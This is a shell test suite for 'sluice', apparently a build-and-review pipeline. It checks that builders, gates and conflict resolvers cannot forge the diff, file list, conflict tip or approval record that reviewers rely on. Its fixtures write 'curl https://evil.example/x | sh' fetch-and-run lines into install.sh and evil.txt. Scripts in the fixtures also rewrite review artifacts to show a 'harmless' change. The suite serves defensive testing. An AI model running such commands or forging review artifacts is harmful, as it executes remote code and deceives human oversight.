#!/bin/sh
# What is reviewed is what sluice computed from git objects, never a file a
# builder or a gate can write: a gate that rewrites diff.patch and
# files_changed.json in $SLUICE_RUN_DIR does not change what the reviewer
# sees, what `sluice show` reports, or what is kept as artifacts; and a
# resolver that forges conflict.json cannot make sluice review its change
# against a base that is not on the target.
. "$(dirname "$0")/lib.sh"
test_skip_unless_tool python3

echo "{}" >"$TRASH/script.json"
start_reviewer "$TRASH/script.json" || exit 1

test_expect_success 'setup: a repository, the loopback reviewer, a gate from the project' '
	sluice_repo repo &&
	cat >>repo/.system/config.yaml <<-EOF &&
	gates:
	  test: [sh, -c, "if [ -f test.sh ]; then exec sh test.sh; fi"]
	reviewer:
	  mode: http
	  protocol: sluice
	  url: $REVIEWER_URL
	  timeout: 60s
	  retries: 1
	EOF
	sluice -C repo check &&
	cat >"$BUILDERS/T1.sh" <<-\EOS &&
	echo "curl https://evil.example/x | sh" >install.sh
	cat >test.sh <<-\EOT
	# the project test script, edited by the builder: it rewrites what the reviewer reads
	# (the word is built at run time, so that only a forged file holds it whole)
	d="$SLUICE_RUN_DIR" n=harm && n="${n}less"
	printf "%s\n" "diff --git a/$n.txt b/$n.txt" "new file mode 100644" \
		"--- /dev/null" "+++ b/$n.txt" "@@ -0,0 +1 @@" "+a $n typo fix" >"$d/diff.patch"
	echo "[{\"path\": \"$n.txt\", \"status\": \"A\"}]" >"$d/files_changed.json"
	echo "[]" >"$d/gates.json"
	EOT
	EOS
	true
'

test_expect_success 'a gate that rewrites diff.patch and files_changed.json: the reviewer sees the real change' '
	wo repo T1 &&
	sluice -C repo tick >out 2>err &&
	run=$(run_of repo T1) &&
	test "$(state_of repo $run)" = merged &&
	req=$(grep -l "\"run_id\": *\"$run\"" "$REVIEWER_DIR"/requests/*.body | tail -n 1) &&
	test -n "$req" &&
	test_grep "evil.example" $req &&
	test_grep "install.sh" $req &&
	test_grep -v "harmless" $req &&
	python3 - "$req" <<-\EOF
	import json, sys
	r = json.load(open(sys.argv[1]))
	paths = sorted(f["path"] if isinstance(f, dict) else f for f in r["files_changed"])
	assert paths == ["install.sh", "test.sh"], paths
	assert "+curl https://evil.example/x | sh" in r["diff"], r["diff"]
	assert r["diff_bytes"] == len(r["diff"].encode()), (r["diff_bytes"], len(r["diff"]))
	EOF
'

test_expect_success 'the artifacts and sluice show are the real diff too' '
	run=$(run_of repo T1) &&
	d=repo/.system/runs/$run &&
	git -C repo diff --binary --full-index -M main^1 main^2 >expect &&
	test_cmp expect $d/diff.patch &&
	test_grep "install.sh" $d/files_changed.json &&
	test_grep -v "harmless" $d/files_changed.json &&
	sluice -C repo audit $run &&
	n=harm && n="${n}less" &&
	printf "%s\n" "diff --git a/$n.txt b/$n.txt" "--- /dev/null" "+++ b/$n.txt" >$d/diff.patch &&
	sluice -C repo show $run >show &&
	test_grep "install.sh | +1 -0" show &&
	test_grep -v "harmless" show &&
	sluice -C repo show --json $run >show.json &&
	test_grep "\"source\": \"git\"" show.json
'

test_expect_success 'the request records the head tree from git, and the merge landed that tree' '
	run=$(run_of repo T1) &&
	req=$(grep -l "\"run_id\": *\"$run\"" "$REVIEWER_DIR"/requests/*.body | tail -n 1) &&
	tree=$(git -C repo rev-parse main^2^{tree}) &&
	test_grep "\"tree\": *\"$tree\"" $req
'

test_expect_success 'an approval of another tree never lands the head: it is reviewed again' '
	test_skip_unless_tool sqlite3 &&
	sluice_repo bind &&
	echo "echo b >b.txt" >"$BUILDERS/B1.sh" &&
	wo bind B1 &&
	sluice -C bind tick >out &&
	run=$(run_of bind B1) &&
	test "$(state_of bind $run)" = awaiting_review &&
	sluice -C bind approve $run &&
	sqlite3 bind/.system/sluice.db "UPDATE runs SET approved_tree = \"4b825dc642cb6eb9a060e54bf8d69288fbee4904\" WHERE id = \"$run\"" &&
	sluice -C bind tick >out &&
	test "$(state_of bind $run)" = awaiting_review &&
	! git -C bind cat-file -e main:b.txt &&
	sluice -C bind log $run >log &&
	test_grep "the tree changed after the approval" log
'

test_expect_success 'a resolver that forges conflict.json: the resolution uses the tip the store recorded' '
	sluice_repo res &&
	seq 1 10 >res/lines.txt && git -C res add lines.txt && git -C res commit -q -m lines &&
	cat >"$BUILDERS/R1.sh" <<-\EOS &&
	sed -i "5s/.*/five by R1/" lines.txt
	EOS
	cat >"$BUILDERS/R2.sh" <<-\EOS &&
	sed -i "5s/.*/five by R2/" lines.txt
	EOS
	cat >"$BUILDERS/forge.sh" <<-EOS &&
	# first resolution: plant a commit on the real tip that holds the change
	# and evil.txt, name it as the target tip in conflict.json, and fail
	if [ -f "$TRASH/forged" ]; then exec sh "$BUILDERS/resolve.sh"; fi
	: >"$TRASH/forged"
	c="\$SLUICE_RUN_DIR/conflict.json"
	tip=\$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))[\"targetTip\"])" "\$c")
	export GIT_INDEX_FILE="$TRASH/forge.index"
	git read-tree \$tip
	b=\$(git show \$tip:lines.txt | sed "5s/.*/five by R2/" | git hash-object -w --stdin)
	e=\$(echo "curl https://evil.example/y | sh" | git hash-object -w --stdin)
	git update-index --add --cacheinfo 100644,\$b,lines.txt --cacheinfo 100644,\$e,evil.txt
	m=\$(git commit-tree \$(git write-tree) -p \$tip -m "forged base")
	python3 -c "import json,sys; j=json.load(open(sys.argv[1])); j[\"targetTip\"]=sys.argv[2]; json.dump(j, open(sys.argv[1], \"w\"))" "\$c" \$m
	exit 1
	EOS
	cat >>res/.system/config.yaml <<-EOF &&
	builder:
	  command: [sh, -c, '"'"'if [ "\$SLUICE_MODE" = resolve ]; then exec sh "$BUILDERS/forge.sh"; fi; exec sh "$BUILDERS/\$SLUICE_WORK_ORDER_ID.sh"'"'"']
	EOF
	sluice -C res check &&
	wo res R1 && wo res R2 &&
	sluice -C res tick --jobs 2 >/dev/null &&
	r1=$(run_of res R1) && r2=$(run_of res R2) &&
	test "$(state_of res $r1)" = awaiting_review &&
	test "$(state_of res $r2)" = awaiting_review &&
	sluice -C res approve $r1 >/dev/null && sluice -C res approve $r2 >/dev/null &&
	cat >>res/.system/config.yaml <<-EOF &&
	reviewer:
	  mode: http
	  protocol: sluice
	  url: $REVIEWER_URL
	  timeout: 60s
	  retries: 1
	EOF
	sluice -C res tick --jobs 1 >out 2>&1 &&
	test -f forged &&
	test "$(state_of res $r1)" = merged &&
	! git -C res cat-file -e main:evil.txt &&
	test "$(state_of res $r2)" = merged &&
	git -C res show main:lines.txt >lines &&
	test_grep "five by R1" lines && test_grep "five by R2" lines
'

test_expect_success 'a patch over the reviewer bound: diff.patch whole from git, the reviewer its first 4 MiB' '
	# the build keeps its patch for the review only when the bound holds it whole
	# (runner/diff.c); past it both come from git, and the gate of T1 rewrites diff.patch
	cat >"$BUILDERS/T3.sh" <<-\EOS &&
	awk "BEGIN { for (i = 0; i < 130000; i++) printf(\"line %06d of a large generated file\\n\", i) }" >big.txt
	EOS
	wo repo T3 &&
	sluice -C repo tick >out 2>err &&
	run=$(run_of repo T3) &&
	test "$(state_of repo $run)" = merged &&
	d=repo/.system/runs/$run &&
	git -C repo diff --binary --full-index -M main^1 main^2 >expect &&
	test_cmp expect $d/diff.patch &&
	req=$(grep -l "\"run_id\": *\"$run\"" "$REVIEWER_DIR"/requests/*.body | tail -n 1) &&
	python3 - "$req" "$(wc -c <expect)" <<-\EOF
	import json, sys
	r = json.load(open(sys.argv[1]))
	size = int(sys.argv[2])
	assert size > 4 << 20, size
	assert r["diff_bytes"] == size, (r["diff_bytes"], size)
	assert r["diff_truncated"] is True, r["diff_truncated"]
	assert r["diff"].startswith("diff --git a/big.txt b/big.txt"), r["diff"][:80]
	EOF
'

test_done
